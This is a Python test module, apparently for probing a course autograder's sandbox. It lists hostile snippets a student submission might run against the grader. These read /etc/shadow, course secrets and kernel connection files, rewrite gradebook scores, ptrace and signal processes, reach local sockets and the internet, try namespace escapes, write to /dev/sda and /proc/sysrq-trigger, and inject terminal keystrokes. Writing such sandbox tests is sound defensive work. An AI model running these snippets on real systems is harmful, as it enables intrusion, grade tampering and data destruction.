"""Hostile code for the first answer of the tiny assignment: what students could try against the grader.

Each attack prints ``TRIED`` when it has run its course, and ``LOOT: ...`` for everything it got hold of. Names in
capitals (COURSE, PORT, ...) are filled in by the test: attackers are told where everything is.
"""

from __future__ import annotations

START = """
import os, sys, glob, socket, ctypes, signal, subprocess, time, json, struct, threading
def loot(thing): print("LOOT:", repr(thing)[:300])
def take(*paths):
    for path in paths:
        try:
            loot(open(path, "rb").read(200))
        except OSError:
            pass
def put(*paths):
    for path in paths:
        try:
            open(path, "w").write("MARKER")
        except OSError:
            pass
libc = ctypes.CDLL(None)
"""
END = "\nprint('TRIED')\n"
READING = {
    "secret": 'take("COURSE/course-secret.txt")',
    "scheme": 'take("COURSE/marking/t01.py"); sys.path.insert(0, "COURSE/marking")\ntry:\n    import t01; loot(t01)\n'
              'except ImportError: pass',
    "solutions": 'take("COURSE/source/t01/t01.ipynb", "COURSE/text/t01.md", "COURSE/reference/t01.yaml")',
    "gradebook": """
take("COURSE/gradebook.db")
import sqlite3
try:
    db = sqlite3.connect("file:COURSE/gradebook.db?mode=rw", uri=True)
    db.execute("update grade set auto_score = 99"); db.commit(); loot(db)
except sqlite3.Error: pass""",
    "neighbours": """
take(*glob.glob("COURSE/*/*/t01/*"), "COURSE/submitted/honest-1/t01/t01.ipynb")
if os.path.exists("COURSE"): loot(os.listdir("COURSE"))""",
    "search": """
names = {"course-secret.txt", "gradebook.db", "t01.py", "t01.ipynb", "t01.md", "nbgrader_config.py", "MARKERFILE"}
for top, folders, files in os.walk("/"):
    folders[:] = [f for f in folders if f != "site-packages" and (top != "/" or f not in ("proc", "usr"))]
    for found in names & set(files): loot(os.path.join(top, found))""",
    "environment": """
if "GRADER_SETTING" in os.environ: loot("own environment")
for path in glob.glob("/proc/[0-9]*/environ"):
    try: loot(path) if "GRADER_SETTING" in open(path, errors="replace").read() else None
    except OSError: pass""",
    "connection-file": 'take(*glob.glob("HOSTHOME/.local/share/jupyter/runtime/*"), *glob.glob("/**/kernel-*.json"))\n'
                       'take(*[w for w in sys.argv if w.endswith(".json")])',
    "home": 'take(*glob.glob("HOSTHOME/.*"), *glob.glob(os.path.dirname("HOSTHOME") + "/*/.*"))\n'
            'take("/etc/shadow", "/etc/passwd", "/etc/hostname", "HOSTFILE")',
    "demo-case": """
from crmsim.course import identity, recipes
try: loot(recipes.make_case(recipes.recipe_of("t01"), "t01", "demo-case").truth)
except Exception: pass
if identity.read_secret("COURSE") != identity.DEMO_SECRET: loot("secret")""",
    "frames": """
import gc, inspect
for frame in inspect.stack():
    for name, value in list(frame.frame.f_locals.items()):
        if any(word in repr(value)[:2000] for word in ("SCHEME", "Recipe(", "hidden")) and "loot" not in repr(value):
            loot((name, value))
for thing in gc.get_objects():
    if type(thing).__name__ in ("Scheme", "SealedCase", "Kit", "Marker", "Question"): loot(thing)""",
}
REACHING_OUT = {
    "loopback": """
for host in ("127.0.0.1", "localhost", "::1", "0.0.0.0", "HOSTADDRESS"):
    try:
        with socket.create_connection((host, PORT), timeout=1) as s: s.sendall(b"MARKER"); loot(host)
    except OSError: pass""",
    "internet": """
for host in ("1.1.1.1", "93.184.216.34", "example.org"):
    try: socket.create_connection((host, 443), timeout=1); loot(host)
    except OSError: pass
import urllib.request
try: loot(urllib.request.urlopen("http://127.0.0.1:PORT/", timeout=1).read())
except OSError: pass""",
    "local-sockets": r"""
for name in ("SOCKETPATH", "\0SOCKETNAME", "/run/dbus/system_bus_socket", "/var/run/docker.sock"):
    s = socket.socket(socket.AF_UNIX)
    try: s.connect(name); loot(name)
    except OSError: pass""",
    "signals": """
for target in [os.getppid(), 1, -1, 0, HOSTPID, WORKERPID]:
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGUSR1):
        try:
            if target not in (0, -1): os.kill(target, number)
        except OSError: pass
try: os.killpg(os.getpgid(os.getppid()) or 1, signal.SIGCONT)
except OSError: pass""",
    "ptrace": """
own = set(map(int, os.listdir("/proc/self/task")))
for target in {os.getppid(), 1, HOSTPID, WORKERPID, *range(2, 40)} - own:
    if libc.ptrace(16, target, 0, 0) == 0: loot(("ptrace", target)); libc.ptrace(17, target, 0, 0)
    for part in ("mem", "environ", "maps", "fd/3", "root/etc/shadow", "cwd/gradebook.db"):
        try:
            if open(f"/proc/{target}/{part}", "rb").read(1) and part != "maps": loot((target, part))
        except OSError: pass""",
    "processes": """
own = set()
for path in glob.glob("/proc/[0-9]*/cmdline"):
    text = open(path).read()
    if "batch.worker" in text or "pytest" in text or "crmsim course" in text: loot(text)
for word in ("COURSE", "MARKERFILE"):
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        if word in open(path).read(): loot(path)""",
    "descriptors": """
for number in os.listdir("/proc/self/fd"):
    try: target = os.readlink(f"/proc/self/fd/{number}")
    except OSError: continue
    if not target.startswith(("pipe:", "socket:", "anon_inode:", "/dev/null")) and "/proc/" not in target: loot(target)
    if target.startswith("/proc") and "self" not in target and str(os.getpid()) not in target: loot(target)""",
    "escape": """
for kind in (0x10000000, 0x20000, 0x40000000, 0x20000000):
    if libc.unshare(kind) == 0: loot(("unshare", kind))
if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0: loot("mount")
if libc.umount2(b"/tmp", 2) == 0: loot("umount")
for call in (lambda: os.setuid(0), lambda: os.chroot("/tmp"), lambda: os.mknod("/tmp/disk", 0o60666, os.makedev(8, 0)),
             lambda: os.setgroups([0]), lambda: os.nice(-5), lambda: os.sched_setscheduler(0, 1, os.sched_param(9))):
    try: call(); loot(call.__code__.co_names)
    except OSError: pass
for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/user/max_user_namespaces",
             "/sys/fs/cgroup/cgroup.procs", "/proc/1/oom_score_adj", "/dev/mem", "/dev/sda", "/dev/kmsg"):
    try: open(path, "w").write("1"); loot(path)
    except OSError: pass
for program in ("su", "sudo", "bwrap", "unshare", "nsenter"):
    try:
        done = subprocess.run([program, "-c", "id"] if program == "su" else [program, "--user", "id"],
                              capture_output=True, text=True, timeout=2, stdin=subprocess.DEVNULL)
        if "uid=0" in done.stdout: loot(program)
    except (OSError, subprocess.TimeoutExpired): pass""",
    "terminal": """
import fcntl, termios
try: terminal = os.open("/dev/tty", os.O_RDWR); loot("terminal"); fcntl.ioctl(terminal, termios.TIOCSTI, b"x")
except OSError: pass
print("\\x1b]0;owned\\x07\\x1b[2J")""",
}
ATTACKS = {**READING, **REACHING_OUT}
